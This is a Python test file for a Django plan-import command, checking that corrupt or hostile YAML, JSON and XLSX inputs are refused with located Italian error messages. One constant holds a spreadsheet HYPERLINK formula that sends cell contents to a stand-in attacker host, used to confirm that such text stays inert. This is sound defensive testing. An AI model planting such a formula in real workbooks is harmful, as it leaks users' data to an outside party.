"""import_plan on files an attacker (or a bad copy) makes: a NUL byte, bytes that are not UTF-8, a binary file
named .yaml, a damaged workbook, numbers and dates no plan has. Each is refused with where it is (file, line and
column, or sheet, row and column), what is wrong and what to do; the command exits non-zero, prints no
traceback and writes nothing. Each of these used to crash with a traceback or be written."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from openpyxl import load_workbook

from plans.importing.workbook import write_workbook
from plans.models import ActionSheet, Measurement, Objective, Organization
from tests.conftest import REPO
from tests.plans.test_import_errors import edited, refused
from tests.plans.test_import_plan import run_import, small_plan, write

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri")'


def test_a_nul_byte_exits_non_zero_with_the_location_and_no_traceback(transactional_db: None, tmp_path: Path) -> None:
    """The command as an office runs it, in its own process, on the test database."""
    path = write(tmp_path, edited(lambda d: d["objectives"][0].__setitem__("title", "Cartella\x00sociale")))
    database = connection.settings_dict
    url = f"postgres://{database['USER']}@{database['HOST']}:{database['PORT']}/{database['NAME']}"
    done = subprocess.run(
        [sys.executable, "manage.py", "import_plan", str(path)],
        cwd=REPO,
        env={**os.environ, "DATABASE_URL": url},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    assert "piano.yaml, riga 22, colonna 10 (objectives[1].title)" in done.stderr
    assert "carattere NUL" in done.stderr
    assert not Organization.objects.exists()


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_a_nul_written_as_an_escape_is_located(tmp_path: Path, suffix: str) -> None:
    document = edited(lambda d: d["objectives"][0]["activities"][1].__setitem__("description", "Forma\x00zione"))
    message = refused(write(tmp_path, document, suffix))
    assert f"piano{suffix}, riga" in message and "(objectives[1].activities[2].description)" in message
    assert "il testo contiene il carattere NUL (U+0000)" in message


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_a_raw_nul_byte_is_located(tmp_path: Path, suffix: str) -> None:
    path = write(tmp_path, small_plan(), suffix)
    content = path.read_bytes()
    path.write_bytes(content.replace(b"Formazione", b"Forma\x00zione"))
    line = content[: content.index(b"Formazione")].count(b"\n") + 1
    message = refused(path)
    assert f"piano{suffix}, riga {line}, colonna" in message
    assert "il file contiene il carattere NUL (byte 0)" in message


def test_bytes_that_are_not_utf8_are_located(tmp_path: Path) -> None:
    """A text saved in Latin-1, where "ò" is the one byte 0xf2."""
    path = write(tmp_path, small_plan())
    content = path.read_bytes()
    path.write_bytes(content.replace(b"Formazione", b"Formazi\xf2ne"))
    before = content[: content.index(b"Formazione")]
    line, column = before.count(b"\n") + 1, len(before) - before.rindex(b"\n") + len("Formazi")
    message = refused(path)
    assert f"piano.yaml, riga {line}, colonna {column}: il file non è testo UTF-8 (byte 0xf2 non valido)" in message


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (bytes(range(256)) * 40, "piano.yaml, riga 2, colonna 118: il file non è testo UTF-8 (byte 0x80"),
        (b"\x89PNG\r\n\x1a\n" + bytes(200), "piano.yaml, riga 1, colonna 1: il file non è testo UTF-8 (byte 0x89"),
        ("format: traguardi-plan/1\n".encode("utf-16"), "piano.yaml: il file è in UTF-16"),
        (b"PK\x03\x04" + bytes(100), "piano.yaml, riga 1, colonna 5: il file contiene il carattere NUL"),
    ],
    ids=["bytes", "png", "utf-16", "zip"],
)
def test_a_binary_file_named_yaml_is_refused_with_the_location(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "piano.yaml"
    path.write_bytes(content)
    assert said in refused(path)


def test_a_control_character_in_yaml_is_located(tmp_path: Path) -> None:
    path = write(tmp_path, small_plan())
    path.write_bytes(path.read_bytes().replace(b"Formazione", b"Forma\x07zione"))
    message = refused(path)
    assert "piano.yaml, riga" in message and "carattere di controllo U+0007" in message


def test_json_nested_past_python_s_limit_is_located(tmp_path: Path) -> None:
    path = tmp_path / "piano.json"
    path.write_text('{"format": "traguardi-plan/1", "plan": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8")
    message = refused(path)
    assert "piano.json, riga 1, colonna 539: il documento è annidato troppo in profondità" in message


def test_a_json_file_with_a_byte_order_mark_is_read(tmp_path: Path) -> None:
    path = tmp_path / "piano.json"
    path.write_bytes(b"\xef\xbb\xbf" + json.dumps(small_plan()).encode())
    run_import(path)
    assert Objective.objects.filter(code="OB-1").exists()


def _rezip(path: Path, change: Callable[[str, bytes], bytes]) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, change(info.filename, source.read(info.filename)))
    path.write_bytes(buffer.getvalue())


def _sheet_file(path: Path, title: str) -> str:
    """The file inside the archive that holds the sheet `title`."""
    book = load_workbook(path)
    return f"xl/worksheets/sheet{book.sheetnames.index(title) + 1}.xml"


def test_a_workbook_with_a_sheet_cut_short_names_the_sheet(tmp_path: Path) -> None:
    path = write(tmp_path, small_plan(), ".xlsx")
    cut = _sheet_file(path, "Attività")
    _rezip(path, lambda name, data: data[: len(data) // 2] if name == cut else data)
    message = refused(path)
    assert "piano.xlsx, foglio «Attività», riga" in message
    assert "il file XLSX è danneggiato" in message and "salvalo di nuovo" in message


@pytest.mark.parametrize("damage", ["archive", "xml", "compressed"])
def test_a_damaged_workbook_is_refused_without_a_traceback(tmp_path: Path, damage: str) -> None:
    path = write(tmp_path, small_plan(), ".xlsx")
    if damage == "archive":
        path.write_bytes(path.read_bytes()[:2000])
    elif damage == "xml":
        _rezip(path, lambda name, data: b"<<<" if name == "xl/workbook.xml" else data)
    else:
        content = bytearray(path.read_bytes())
        start = content.index(b"xl/worksheets/sheet3.xml") + 200
        content[start : start + 8] = b"\xff" * 8
        path.write_bytes(bytes(content))
    message = refused(path)
    assert "piano.xlsx" in message and ("danneggiato" in message or "non è un file XLSX leggibile" in message)


def _measurement(value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda d: d["objectives"][0]["indicators"][0]["measurements"][0].__setitem__("value", value)


@pytest.mark.parametrize("suffix", [".yaml", ".json", ".xlsx"])
def test_an_indicator_value_too_large_for_its_column_is_located(tmp_path: Path, suffix: str) -> None:
    message = refused(write(tmp_path, edited(_measurement("9" * 40 + "/1")), suffix))
    where = "foglio «Valori», riga 3, colonna E «Dato»" if suffix == ".xlsx" else "riga"
    assert where in message and "(objectives[1].indicators[1].measurements[1].value)" in message
    assert "è troppo grande. Sono ammesse al massimo 14 cifre prima della virgola" in message
    assert not Measurement.objects.exists()


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda d: d["objectives"][0].__setitem__("budget_expense", "9" * 20), "(objectives[1].budget_expense)"),
        (lambda d: d["objectives"][0].__setitem__("weight", "100000"), "(objectives[1].weight)"),
        (lambda d: d["objectives"][0].__setitem__("number", 10**30), "al più 2147483647"),
        (lambda d: d["objectives"][0].__setitem__("planned_end", "0001-01-01"), "tra il 01/01/2025 e il 31/12/2027"),
        (
            lambda d: d.__setitem__("action_sheets", [{"code": "S1", "title": "Scheda", "level": "L" * 201}]),
            "Accorcialo a 200 caratteri",
        ),
    ],
    ids=["amount", "weight", "integer", "date", "long-text"],
)
def test_numbers_dates_and_texts_the_columns_cannot_hold_are_located(
    tmp_path: Path, change: Callable[[dict[str, Any]], None], said: str, frozen_today: object
) -> None:
    message = refused(write(tmp_path, edited(change)))
    assert "piano.yaml, riga" in message and said in message
    assert not ActionSheet.objects.exists()


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_an_integer_too_long_for_python_to_read_is_located(tmp_path: Path, suffix: str) -> None:
    """Python refuses to read an integer of more than 4,300 digits: a ValueError that used to end the command."""
    path = write(tmp_path, edited(lambda d: d["objectives"][0].__setitem__("number", 123454321)), suffix)
    path.write_text(path.read_text(encoding="utf-8").replace("123454321", "9" * 5000), encoding="utf-8")
    message = refused(path)
    assert f"piano{suffix}, riga" in message and "(objectives[1].number)" in message


def test_the_workbook_writer_keeps_formula_like_texts_as_text(tmp_path: Path) -> None:
    """openpyxl writes a string starting with "=" as a formula: the threshold "=>4" became a broken formula,
    and "=HYPERLINK(...)" a live link, both lost when the workbook was read back."""
    document = edited(lambda d: d["objectives"][0].__setitem__("title", HYPERLINK))
    document["objectives"][0]["indicators"][0]["targets"][0]["value"] = "=>4"
    path = tmp_path / "piano.xlsx"
    path.write_bytes(write_workbook(document))
    cells = [cell for row in load_workbook(path)["Obiettivi"].iter_rows(min_row=2) for cell in row]
    assert any(cell.value == HYPERLINK and cell.data_type == "s" for cell in cells)
    run_import(path)
    objective = Objective.objects.get(code="OB-1")
    assert objective.title == HYPERLINK
    assert objective.indicators.get().targets.get().raw == "=>4"
